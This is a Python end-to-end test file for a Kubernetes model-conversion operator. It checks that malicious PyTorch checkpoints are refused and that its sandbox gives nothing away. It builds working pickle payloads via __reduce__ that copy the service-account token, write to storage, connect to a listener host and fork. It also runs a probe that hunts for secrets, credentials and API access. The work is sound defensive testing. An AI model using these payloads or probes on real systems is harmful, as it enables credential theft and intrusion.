"""A .pt that reads tokens, writes outside, connects, forks is refused by name; and had it run, it would get nothing.

That a pickle which the list lets pass has no network, tests/model_repo_builder/test_apart.py shows: no image has a way
past the list. Here the same wall stands under a pod's own security.
"""

from __future__ import annotations

import base64
import io
import json
import os
import pickle
import shutil
import socket
import zipfile
from collections.abc import Callable
from hashlib import sha256
from typing import Any

import pytest

from e2e.fleet import TINY, Fleet
from e2e.stories.conftest import file_server
from e2e.waiting import wait_for

TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"
SERVE = """
import base64, functools, http.server, json, pathlib, socketserver, sys, threading
folder = pathlib.Path("/tmp/files")
folder.mkdir()
for name, content in json.loads(sys.argv[1]).items():
    (folder / name).write_bytes(base64.b64decode(content))
class Caught(socketserver.BaseRequestHandler):
    def handle(self):
        print("somebody connected from", self.client_address[0], flush=True)
caught = socketserver.ThreadingTCPServer(("0.0.0.0", 9000), Caught)
threading.Thread(target=caught.serve_forever, daemon=True).start()
handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=folder)
http.server.ThreadingHTTPServer(("0.0.0.0", 8000), handler).serve_forever()
"""
PROBE = """
import errno, json, os, pathlib, socket, urllib.request
from model_repo_builder.seccomp import give_up_network
WORDS = ("TOKEN", "KEY", "SECRET", "GRANT")
PLACES = "/ /etc /opt /usr /weights /engine /tmp /store /source".split() + [os.path.dirname(json.__file__)]
def able(path):
    try:
        (pathlib.Path(path) / "probe").write_text("x")
    except OSError:
        return False
    return True
def asked(url):
    import ssl
    context = ssl._create_unverified_context()
    try:
        return urllib.request.urlopen(url, timeout=5, context=context).status
    except urllib.error.HTTPError as error:
        return error.code
    except OSError as error:
        return type(error).__name__
def opened():
    try:
        socket.socket().close()
    except OSError as error:
        return errno.errorcode[error.errno]
    return "open"
status = dict(line.split(":", 1) for line in open("/proc/self/status") if ":" in line)
mounts = [line.split()[1] for line in open("/proc/self/mounts")]
print(json.dumps({
    "uid": os.getuid(),
    "capabilities": int(status["CapEff"], 16),
    "new privileges": status["NoNewPrivs"].strip() == "0",
    "secrets": [mount for mount in mounts if "secret" in mount or "serviceaccount" in mount],
    "credentials": sorted(name for name in os.environ if any(word in name for word in WORDS)),
    "writable": sorted(path for path in PLACES if able(path)),
    "store": os.path.exists("/store"),
    "api": asked("https://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    "sockets": [opened(), give_up_network() or opened()],
}))
"""


class Call:
    """Pickled, it is a call that the pickle's reader makes."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self.call = (function, arguments)

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[Any, ...]]:
        return self.call


def hostile(host: str) -> dict[str, tuple[bytes, str]]:
    """Return checkpoints that do harm when they are opened, and the global by which each is refused."""
    calls = {
        "reads": (Call(shutil.copyfile, TOKEN, "/engine/stolen"), "shutil.copyfile"),
        "writes": (Call(os.makedirs, "/store/mine"), "os.makedirs"),
        "connects": (Call(socket.create_connection, (host, 9000)), "socket.create_connection"),
        "forks": (Call(os.fork), "posix.fork"),
    }
    return {name: (checkpoint(call), named) for name, (call, named) in calls.items()}


def checkpoint(call: Call) -> bytes:
    """Return a file as torch writes them, with this call in its pickle."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("best/data.pkl", pickle.dumps({"model": call}, 2, fix_imports=False))
        archive.writestr("best/version", "3\n")
    return made.getvalue()


@pytest.fixture
def weights(fleet: Fleet) -> dict[str, tuple[bytes, str]]:
    """Hostile checkpoints behind http://files:8000, and a port of the same pod that prints who connects."""
    made = hostile(f"files.{fleet.namespace}.svc.cluster.local")
    pod, service = file_server(SERVE)
    packed = {f"{name}.pt": base64.b64encode(content).decode() for name, (content, _) in made.items()}
    pod["spec"]["containers"][0]["command"].append(json.dumps(packed))
    service["spec"]["ports"] = [{"name": "files", "port": 8000}, {"name": "caught", "port": 9000}]
    fleet.apply(pod, service)
    fleet.kubectl("wait", "pod", "files", "--for=condition=Ready", "--timeout=60s")
    return made


def test_a_hostile_checkpoint_gets_nothing(fleet: Fleet, weights: dict[str, tuple[bytes, str]]) -> None:
    """Without a NetworkPolicy: each is refused in convert by name, publish never starts, nobody calls home."""
    assert not fleet.items("networkpolicies")
    base = f"http://files.{fleet.namespace}.svc.cluster.local:8000"
    for name, (content, _) in weights.items():
        source = {"url": f"{base}/{name}.pt", "sha256": sha256(content).hexdigest()}
        fleet.deploy(name, engine=TINY, model={"http": source})
    for name, (_, named) in weights.items():
        told = fleet.wait_condition(name, "EngineReady", "False", reason="BuildRefused", timeout_s=90)["message"]
        assert f"names {named}, which no YOLO checkpoint needs" in told
    pods = fleet.items("pods", "app.kubernetes.io/name=engine-build")
    assert len(pods) == len(weights)
    for pod in pods:
        fetch, convert = pod["status"]["initContainerStatuses"]
        assert fetch["state"]["terminated"]["exitCode"] == 0
        assert convert["state"]["terminated"]["exitCode"] == 42
        assert "waiting" in pod["status"]["containerStatuses"][0]["state"], "publish never ran"
    assert all("artifact" not in engine["status"] for engine in fleet.items("yeng"))
    assert "somebody connected" not in fleet.kubectl("logs", "files")
    call = f"import socket; socket.create_connection(('files.{fleet.namespace}.svc.cluster.local', 9000))"
    fleet.kubectl("exec", "files", "--", "python3", "-c", call)
    wait_for("a caller to be caught", lambda: "somebody connected" in fleet.kubectl("logs", "files"), timeout_s=10)
    probed(fleet, pods[0]["spec"])


def probed(fleet: Fleet, spec: dict[str, Any]) -> None:
    """Run, where convert runs, what a pickle would run that got past the unpickler: it finds nothing to take."""
    convert = spec["initContainers"][1] | {"command": ["python3", "-c", PROBE]}
    (publish,) = [container | {"command": ["true"]} for container in spec["containers"]]
    fetch = spec["initContainers"][0] | {"command": ["sh", "-c", "echo '{}' > /weights/fetched.json"]}
    twin = {key: value for key, value in spec.items() if key not in ("nodeName", "tolerations")}
    twin |= {"initContainers": [fetch, convert], "containers": [publish]}
    fleet.apply({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "probe"}, "spec": twin})
    wait_for("the probe to end", lambda: fleet.get("pod", "probe")["status"].get("phase") == "Succeeded", timeout_s=60)
    found = json.loads(fleet.kubectl("logs", "probe", "-c", "convert").splitlines()[-1])
    assert found == {
        "uid": 1000,
        "capabilities": 0,
        "new privileges": False,
        "secrets": [],
        "credentials": [],
        "writable": ["/engine", "/tmp"],
        "store": False,
        "api": found["api"],
        "sockets": ["open", "EAFNOSUPPORT"],
    }
    assert found["api"] in (401, 403), "the API server, which answers nobody without a token, is in reach before"
